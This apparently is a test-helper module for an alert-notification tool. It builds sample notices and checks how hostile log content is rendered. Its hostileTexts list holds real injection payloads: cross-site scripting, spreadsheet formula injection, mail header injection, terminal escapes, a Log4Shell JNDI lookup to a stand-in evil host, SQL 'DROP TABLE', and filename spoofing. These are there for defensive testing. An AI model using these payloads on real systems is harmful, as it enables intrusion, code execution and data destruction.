import type { Acknowledgement, AlertState, Told } from "../../../lib/alert/alert.ts";
import type { Facts } from "../../../lib/alert/facts.ts";
import type { Notice } from "../../../lib/alert/notice.ts";
import type { Severity } from "../../../lib/alert/rule-kinds.ts";
import { composeNotice, type NoticeInput } from "../../../lib/notice/compose-notice.ts";
import { sampleAlert } from "../../../lib/notice/sample-alerts.ts";

export const publicUrl = "https://doorwatch.example.org";
export const nowMs = Date.UTC(2026, 10, 22, 14, 31);
export const host = "doorwatch.example.org";

/** An alert as a fixture states it. */
export type StatedAlert = {
  id: string;
  severity: Severity;
  startedMs: number;
  endedMs: number;
  magnitude: number;
  nature: string;
  previous: Told;
  facts: Facts;
};

type Kind = NoticeInput["kind"];
export const kinds: readonly Kind[] = ["firing", "update", "resolved"];

/** The notice of one kind for a stated alert. */
export function noticeOf(
  stated: StatedAlert,
  kind: Kind,
  more: Partial<NoticeInput> & { acknowledged?: Acknowledgement; state?: AlertState } = {},
): Notice {
  const { endedMs, previous, facts, ...about } = stated;
  const { acknowledged = null, state, ...input } = more;
  const told = kind === "firing" ? null : previous;
  const alert = sampleAlert(facts, { ...about, told, ...(kind === "resolved" ? { endedMs } : {}) });
  return composeNotice({
    alert: { ...alert, heldMs: endedMs, acknowledged, state: state ?? alert.state },
    kind,
    reason: "The reason that was decided on.",
    previous: told,
    fleetName: "production",
    publicUrl,
    nowMs: endedMs,
    timeZone: "Europe/Berlin",
    ...input,
  });
}

/** The words of a mail's HTML as a reader sees them, links followed by their addresses. */
export const wordsOfHtml = (html: string): string[] =>
  wordsOf(
    html
      .replace(/<head>.*?<\/head>/s, " ")
      .replace(/<div class="preheader".*?<\/div>/s, " ")
      .replace(/<a [^>]*?href="([^"]*)"[^>]*>(.*?)<\/a>/gs, "$2 $1 ")
      .replace(/<\/?(?:strong|bdi|span)(?:\s[^>]*)?>/g, "")
      .replace(/<[^>]*>/g, " ")
      .replace(/&#(\d+);/g, (_, code: string) => String.fromCharCode(Number(code))),
  );

/** Words and numbers, without what only draws or sets apart. */
export const wordsOf = (text: string): string[] => text.toLowerCase().match(/[\p{L}\p{N}\p{M}]+/gu) ?? [];

/** Characters that nobody sees or that act on what is beside them; line breaks of ours are allowed. */
export const hidden = /[\p{Cf}\p{Zl}\p{Zp}\p{Cs}]|(?!\n)\p{Cc}/u;

/** Every text within a value that is sent as JSON. */
export function textsIn(value: unknown): string[] {
  if (typeof value === "string") return [value];
  if (typeof value !== "object" || value === null) return [];
  return Object.values(value).flatMap(textsIn);
}

/** What logs are known to hold, from lists of cross-site scripting, formulas, header injection and chat markup. */
export const hostileTexts: readonly string[] = [
  `"><script>alert(1)</script>`,
  "<img src=x onerror=alert(1)>",
  "<title>phpMyAdmin",
  "<dETAILS open onToGgle=alert(1)>",
  "</td></table><style>*{display:none}</style>",
  "=cmd|'/C calc'!A0",
  "+1+1",
  "@SUM(1)",
  "\t=1",
  "\r\nBcc: x@example.org",
  "\n.\nQUIT",
  "\x1b[2J\x1b]0;pwned\x07",
  "user\u202egpj.exe\u2066\u200b",
  `/${"A".repeat(65_536)}`,
  "\u0000\u00ff\u00fe\ud800",
  "%00%0d%0a",
  "<!channel> <!here> @channel @everyone",
  "<https://evil.example|click> <@U123>",
  "[x](javascript:alert(1)) [y](http://evil.example) ![z](https://evil.example/p.png)",
  "http://evil.example/ HTTPS://evil.example www.evil.example 203.0.113.7:80 a@evil.example",
  "`*_~ ``` code ``` ~_*`",
  "'; DROP TABLE alert; --",
  "${jndi:ldap://evil.example/a} {{7*7}} <%= 1 %>",
  `e${"\u0301".repeat(200)}`,
  '=HYPERLINK("http://evil.example")',
];
